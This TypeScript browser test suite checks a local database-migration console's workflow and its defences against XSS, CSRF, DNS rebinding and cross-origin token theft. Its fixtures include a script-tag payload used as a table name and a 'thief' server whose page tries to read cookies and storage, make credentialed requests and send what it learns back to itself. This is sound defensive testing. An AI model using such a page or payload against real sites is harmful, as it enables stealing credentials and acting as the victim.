/** The console as a person uses it, on a real database. */
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it, onTestFinished } from 'vitest';
import { THREE_PAIRS } from '../core/case.helpers.ts';
import { newPage, openConsole, startFromForm, untilStatus, useBrowser, violations } from './browser.helpers.ts';

useBrowser();

describe('a migration from the page', () => {
  it('is planned, started, watched to its end, looked into, and rolled back', async () => {
    const { entrance } = await openConsole();
    const page = await newPage();
    await page.goto(entrance);
    expect(page.url()).not.toContain('token');
    await page.getByText('Nothing has run here yet').waitFor();

    await startFromForm(page, { table: 'path' });
    await untilStatus(page, 'Migrated');
    expect(await page.getByRole('heading', { level: 1 }).innerText()).toContain('All 6 checks passed');
    expect(await violations(page)).toEqual([]);

    await page.locator('#pairs').getByRole('button', { name: 'path_1' }).click();
    expect(await page.locator('#pair-1 table.statements').innerText()).toContain('VALIDATE CONSTRAINT');
    await page.locator('[data-graph=executed] a[data-state=VerifyMigration]').click();
    await page.locator('#inspector').getByRole('cell', { name: 'LambdaFunctionSucceeded' }).waitFor();

    const [report] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('link', { name: 'Markdown' }).click(),
    ]);
    expect(report.suggestedFilename()).toMatch(/\.md$/);
    expect(readFileSync(await report.path(), 'utf8')).toContain('path_fk');

    await page.getByRole('link', { name: 'Roll back' }).click();
    await page.getByText('The old foreign key comes back first').waitFor();
    expect(await page.locator('dl.facts').innerText()).toMatch(/Forecast\s+Strategy (attach|not-valid)/);
    expect(await violations(page)).toEqual([]);
    await page.getByRole('button', { name: 'Roll back' }).click();
    await untilStatus(page, 'Rolled back');
    expect(await page.getByRole('heading', { level: 1 }).innerText()).toContain(
      'As asked, the migration was taken back',
    );

    await page.getByRole('link', { name: 'Executions' }).click();
    await page.locator('table.executions').waitFor();
    expect(await page.locator('table.executions tbody tr').count()).toBe(2);
    expect(await violations(page)).toEqual([]);
  });

  it('waits for approval, shows what is approved, and goes on without the page being loaded again', async () => {
    const { entrance } = await openConsole();
    const page = await newPage();
    await page.goto(entrance);
    await startFromForm(page, { table: 'path', approval: 'manual' });
    // A mark that a reload would lose.
    await page.evaluate("window.stayed = 'yes'");
    await page.getByRole('link', { name: 'Approve the drop' }).waitFor({ timeout: 60_000 });
    expect(await page.evaluate('window.stayed')).toBe('yes');

    await page.getByRole('link', { name: 'Approve the drop' }).click();
    expect(await page.locator('dl.facts').innerText()).toContain('exclusive locks for');
    await page.getByRole('button', { name: 'Approve the drop' }).click();
    await untilStatus(page, 'Migrated');
  });

  it('is stopped, and goes on from there', async () => {
    const { entrance } = await openConsole();
    const page = await newPage();
    await page.goto(entrance);
    await startFromForm(page, { table: 'path', approval: 'manual' });
    await page.getByRole('link', { name: 'Approve the drop' }).waitFor({ timeout: 60_000 });
    await page.getByRole('link', { name: 'Stop' }).click();
    await page.getByText('Nothing is undone').waitFor();
    await page.getByRole('button', { name: 'Stop it' }).click();
    await untilStatus(page, 'Stopped');

    await page.getByRole('link', { name: 'Go on' }).click();
    await page.getByRole('button', { name: 'Go on' }).click();
    await page.getByRole('link', { name: 'Approve the drop' }).waitFor({ timeout: 60_000 });
  });

  it('tells what is wrong with a field, and keeps what was filled in', async () => {
    const { entrance } = await openConsole();
    const page = await newPage();
    await page.goto(entrance);
    await page.getByRole('link', { name: 'Start', exact: true }).click();
    await page.getByLabel('Table').fill('path');
    await page.getByText('Limits and options').click();
    await page.getByLabel('Pairs side by side').fill('400');
    await page.getByRole('button', { name: 'Show the plan' }).click();
    await page.locator('#field-maxConcurrency-problem').waitFor();
    expect(await page.getByLabel('Table').inputValue()).toBe('path');
    expect(await page.getByLabel('Pairs side by side').getAttribute('aria-invalid')).toBe('true');
    expect(await violations(page)).toEqual([]);

    await page.getByLabel('Pairs side by side').fill('');
    await page.getByLabel('Table').fill('no_such_table');
    await page.getByRole('button', { name: 'Show the plan' }).click();
    expect(await page.getByRole('alert').innerText()).toContain('no_such_table');
  });

  it('shows a table named as markup, and runs nothing of it', async () => {
    const { entrance } = await openConsole(THREE_PAIRS.replaceAll(/\bpath\b(?!_)/g, '"<script>alert(1)</script>"'));
    const page = await newPage();
    await page.goto(entrance);
    await startFromForm(page, { table: '"<script>alert(1)</script>"' });
    await untilStatus(page, 'Migrated');
    for (const place of ['h1', '.verdict .what']) {
      expect(await page.locator(place).first().innerText()).toContain('<script>alert(1)</script>');
    }
  });
});

describe('who is not to use it', () => {
  it('is let in by the key only, which no URL that reaches the server has', async () => {
    const { url, entrance } = await openConsole();
    const key = new URL(entrance).hash.slice('#token='.length);
    const asked = (path: string, headers: Record<string, string> = {}) =>
      fetch(`${url}${path}`, { headers, redirect: 'manual' });
    for (const path of ['/', '/?token=guessed', `/?token=${key}`, '/executions/x', '/start', '/login']) {
      const refused = await asked(path, { cookie: `p2pfk=${key}`, authorization: 'Bearer guessed' });
      expect({ status: refused.status, cookie: refused.headers.get('set-cookie') }).toEqual({
        status: 403,
        cookie: null,
      });
      expect(await refused.text()).not.toMatch(/Nothing has run|action="\/start/);
    }
    expect(await (await asked('/', { authorization: `Bearer ${key}` })).text()).toContain('Nothing has run here yet');

    const page = await newPage();
    await page.goto(url);
    await page.getByRole('heading', { name: 'Access denied' }).waitFor();
    expect(await violations(page)).toEqual([]);
  });

  it('cannot start anything from another site, or without the key', async () => {
    const { url, entrance } = await openConsole();
    const authorization = `Bearer ${new URL(entrance).hash.slice('#token='.length)}`;
    const post = (headers: Record<string, string>): Promise<number> =>
      fetch(`${url}/start`, {
        method: 'POST',
        redirect: 'manual',
        headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' },
        body: 'table=path',
      }).then((answer) => answer.status);

    expect(await post({ authorization, origin: 'https://elsewhere.example' })).toBe(403);
    expect(await post({ authorization, origin: 'null' })).toBe(403);
    expect(await post({ authorization })).toBe(403);
    expect(await post({ origin: url })).toBe(403);
    expect(await post({ origin: url, authorization: 'Bearer guessed' })).toBe(403);
    const list = await (await fetch(url, { headers: { authorization } })).text();
    expect(list).toContain('Nothing has run here yet');
  });

  it('learns nothing from the browser by a server on another port of this machine, and can do nothing through it', async () => {
    const { url, entrance } = await openConsole();
    const key = new URL(entrance).hash.slice('#token='.length);
    const thief = await openThief(url);
    const page = await newPage({}, /status of 4\d\d|Failed to load|blocked/);
    await page.goto(entrance);
    await page.getByText('Nothing has run here yet').waitFor();

    // In the same tab, which has the key for the console's origin, and in the same browser.
    for (const place of [thief.url, thief.url.replace('127.0.0.1', 'localhost')]) {
      await page.goto(`${place}/land`, { waitUntil: 'load' });
      await page.getByText('all was tried').waitFor();
    }
    expect(thief.seen.length).toBeGreaterThan(3);
    for (const seen of thief.seen) {
      expect(seen).not.toContain(key);
      expect(seen).not.toMatch(/p2pfk-|^cookie/im);
    }
    await page.goto(url);
    await page.getByText('Nothing has run here yet').waitFor();
    // What it could have learnt from a request that the browser sends along does not get in either.
    const { host } = new URL(url);
    const cookies = (await page.context().cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
    expect((await fetch(`http://${host}/start`, { headers: { cookie: cookies } })).status).toBe(403);
  });

  it('does not get it through localhost, where another server may listen', async () => {
    const { url } = await openConsole();
    const { port } = new URL(url);
    for (const host of [`localhost:${port}`, `[::1]:${port}`]) {
      const { status, text } = await askAs(host, port);
      expect({ status, text }).toEqual({ status: 403, text: expect.stringContaining('Open this page at 127.0.0.1') });
    }
  });

  it('does not get in by a name that is made to point at this machine', async () => {
    const { url, entrance } = await openConsole();
    const { port } = new URL(url);
    const { pathname, search } = new URL(entrance);
    expect(await askAs('rebound.example', port, `${pathname}${search}`)).toMatchObject({ status: 403 });
  });

  it('needs the password, where there is one', async () => {
    const { url } = await openConsole(undefined, 'correct horse battery');
    const page = await newPage();
    await page.goto(url);
    await page.getByLabel('Password of this console').fill('wrong horse battery');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByText('Incorrect password.').waitFor();
    expect(await violations(page)).toEqual([]);
    await page.getByLabel('Password of this console').fill('correct horse battery');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByText('Nothing has run here yet').waitFor();
    await page.getByRole('link', { name: 'Start', exact: true }).click();
    await page.getByLabel('Table').waitFor();
  });
});

/** A GET of `path` that names `host`. */
function askAs(
  host: string,
  port: string,
  path = '/',
): Promise<{ readonly status: number | undefined; readonly text: string }> {
  return new Promise((resolve, reject) => {
    const asked = request({ host: '127.0.0.1', port, path, headers: { host } });
    asked.on('response', (answer) => {
      let text = '';
      answer.setEncoding('utf8').on('data', (chunk: string) => {
        text += chunk;
      });
      answer.on('end', () => resolve({ status: answer.statusCode, text }));
    });
    asked.on('error', reject);
    asked.end();
  });
}

/** Another user's server on another port: its page tries what a page can, and tells its server what it has learnt. */
async function openThief(victim: string) {
  const seen: string[] = [];
  const script = `
    const tell = (text) => fetch('/told', { method: 'POST', body: String(text) });
    const attempts = [
      () => JSON.stringify(sessionStorage) + JSON.stringify(localStorage) + document.cookie + document.referrer,
      () => fetch('${victim}/start', { credentials: 'include' }).then((answer) => answer.text()),
      () => fetch('${victim}/start', { credentials: 'include', mode: 'no-cors' }).then((answer) => answer.text()),
      () => fetch('${victim}/start', { method: 'POST', credentials: 'include', mode: 'no-cors', body: new URLSearchParams({ table: 'path' }) }).then((answer) => answer.text()),
      () => new Promise((resolve) => { const frame = document.createElement('iframe'); frame.src = '${victim}/start'; frame.onload = () => { try { resolve(frame.contentDocument.body.innerHTML + frame.contentWindow.sessionStorage.length); } catch (error) { resolve(error); } }; document.body.append(frame); }),
      () => new Promise((resolve) => { const opened = open('${victim}/start'); setTimeout(() => { try { resolve(opened.document.body.innerHTML); } catch (error) { resolve(error); } }, 500); }),
    ];
    (async () => {
      for (const attempt of attempts) await tell(await Promise.resolve().then(attempt).catch((error) => error));
      document.body.append('all was tried');
    })();`;
  const server = createServer((asked, answer) => {
    let body = '';
    asked.on('data', (chunk) => {
      body += chunk;
    });
    asked.on('end', () => {
      seen.push(`${asked.rawHeaders.join('\n')}\n${body}`);
      const page = `<!doctype html><title>land</title><link rel="icon" href="data:,"><body><img src="/steal" alt=""><script>${script}</script>`;
      answer.writeHead(200, { 'content-type': asked.url === '/steal' ? 'image/gif' : 'text/html' });
      answer.end(asked.url === '/land' ? page : '');
    });
  });
  server.listen(0);
  await once(server, 'listening');
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, seen };
}
